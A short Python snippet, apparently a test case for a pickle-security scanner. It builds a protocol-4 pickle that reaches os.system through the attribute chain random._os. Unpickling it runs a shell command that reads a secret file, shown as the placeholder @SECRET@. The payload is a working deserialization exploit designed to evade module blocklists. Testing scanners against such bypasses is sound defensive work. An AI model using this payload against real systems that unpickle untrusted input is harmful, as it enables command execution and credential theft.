# Protocol 4 resolves dotted names: an innocent module's attribute chain.
# effect: run
import pickle
pickle.loads(b"\x80\x04\x8c\x06random\x8c\x0a_os.system\x93\x8c" + bytes([len("cat @SECRET@")]) + b"cat @SECRET@\x85R.")
